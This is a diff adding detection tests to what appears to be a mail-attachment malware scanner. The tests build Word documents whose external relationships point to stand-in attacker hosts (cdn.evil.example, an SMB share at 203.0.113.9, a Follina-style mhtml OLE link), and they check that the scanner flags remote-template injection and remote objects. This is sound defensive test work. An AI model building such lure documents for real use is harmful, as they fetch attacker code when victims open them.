@@ -243,6 +243,58 @@ def test_a_qr_code_drawn_as_vector_squares_in_a_pdf_is_read() -> None:
     assert text_only.drawings == 0 and text_only.pictures == 0
 
 
+def _docx(relationships: list[tuple[str, str]]) -> bytes:
+    """A Word package whose document has the given external ``(type, target)`` relationships."""
+    rels = "".join(
+        f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{kind}" Target="{target}" TargetMode="External"/>'
+        for n, (kind, target) in enumerate(relationships, 10)
+    )
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr(
+            "[Content_Types].xml",
+            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+            'content-types"><Override PartName="/word/document.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        )
+        z.writestr("word/document.xml", "<w:document/>")
+        z.writestr(
+            "word/_rels/document.xml.rels",
+            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+            f'2006/relationships">{rels}</Relationships>',
+        )
+    return buf.getvalue()
+
+
+def test_office_documents_links_and_what_they_fetch_when_opened() -> None:
+    """A Word lure's hyperlink is a link of the message; a template fetched from the web (remote
+    template injection) and an external OLE object over MHTML (Follina) are malware; a template
+    on the author's own disk, as every Word file made from a template names, is nothing."""
+    lure = message(
+        attachments=[
+            ("invoice.docx", _docx([("hyperlink", "https://bit.ly/3word")]), "application/msword")
+        ]
+    )
+    msg = parse_message(lure)
+    assert msg.links[0].url == "https://bit.ly/3word" and msg.links[0].where == "invoice.docx"
+    assert "links.shortener" in names(links.analyse(msg, Envelope(), CTX))
+    assert not attachments.analyse(msg, Envelope(), CTX)
+
+    def found(relationships: list[tuple[str, str]]) -> dict[str, str]:
+        raw = message(attachments=[("memo.docx", _docx(relationships), "application/msword")])
+        got = attachments.analyse(parse_message(raw), Envelope(), CTX)
+        return {r.name: r.detail for r in got}
+
+    template = found([("attachedTemplate", "https://cdn.evil.example/t.dotm")])
+    assert "https://cdn.evil.example/t.dotm" in template["attachments.remote_template"]
+    smb = found([("attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm")])
+    assert "attachments.remote_template" in smb
+    follina = found([("oleObject", "mhtml:https://x.example/a.html!x-usc:https://x.example/a")])
+    assert "attachments.remote_object" in follina
+    assert found([("attachedTemplate", "file:///C:/Users/jan/Templates/Normal.dotm")]) == {}
+
+
 def test_password_protected_pdf() -> None:
     """Locked with a password given in the mail's text: nothing inside can be scanned. A PDF
     locked only against editing opens for anyone and is read as usual."""
